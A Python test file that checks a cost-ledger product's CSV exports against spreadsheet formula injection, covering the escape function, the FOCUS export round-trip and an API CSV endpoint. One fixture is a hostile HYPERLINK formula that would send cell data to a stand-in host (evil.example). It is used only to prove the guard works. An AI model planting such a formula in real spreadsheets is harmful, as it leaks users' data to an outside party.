"""Formula injection (#12): every CSV the product writes neutralizes text that a spreadsheet
would run (= + - @ tab CR), with one function, metrics.ledger.csv_safety; money stays exact and the
FOCUS export still reads back exactly."""

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from metrics.ledger.csv_safety import csv_safe, csv_unsafe
from metrics.ledger.export import focus_export
from metrics.ledger.ingest import billing_import
from metrics.models import CostRecord
from tests.metrics.test_api_world import DAY, batch, record
from tests.metrics.test_export import fresh_ledger

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text())
def test_the_guard_is_reversible_and_never_leaves_a_formula(text):
    safe = csv_safe(text)
    assert csv_unsafe(safe) == text
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_focus_export_neutralizes_text_but_keeps_money_exact(db, teams, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    b = batch()
    record(b, teams["ml-platform"], DAY, "-1.25", application_key=HOSTILE, model="@SUM(1+1)")
    record(b, teams["search"], DAY, "2.50", application_key="'-already quoted")
    out = focus_export(out=tmp_path / "focus.csv", start=None, end=None, team=None)
    rows = list(csv.DictReader(io.StringIO(out.path.read_text(encoding="utf-8"))))
    # Amounts are numbers, written exactly and never quoted.
    assert sorted(Decimal(row["EffectiveCost"]) for row in rows) == [
        Decimal("-1.25"),
        Decimal("2.50"),
    ]
    hostile = next(r for r in rows if r["x_ApplicationKey"].startswith("'="))
    assert hostile["x_ApplicationKey"] == "'" + HOSTILE
    assert next(r for r in rows if r["x_ApplicationKey"].startswith("''-"))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                float(value)  # only a negative number may start with a minus
    # Read back by the FOCUS importer: the text is exactly what the ledger held.
    keys = set(CostRecord.objects.values_list("application_key", flat=True))
    fresh_ledger()
    billing_import(out.path)
    assert set(CostRecord.objects.values_list("application_key", flat=True)) == keys


def test_the_records_csv_uses_the_same_guard(client, people, teams):
    b = batch()
    record(b, teams["ml-platform"], DAY, "-3.00", application_key=HOSTILE)
    client.force_login(people["admin"])
    response = client.get("/api/v1/records/?format=csv")
    body = b"".join(response.streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["application_key"] == "'" + HOSTILE
    assert row["effective_cost"] == "-3.00"
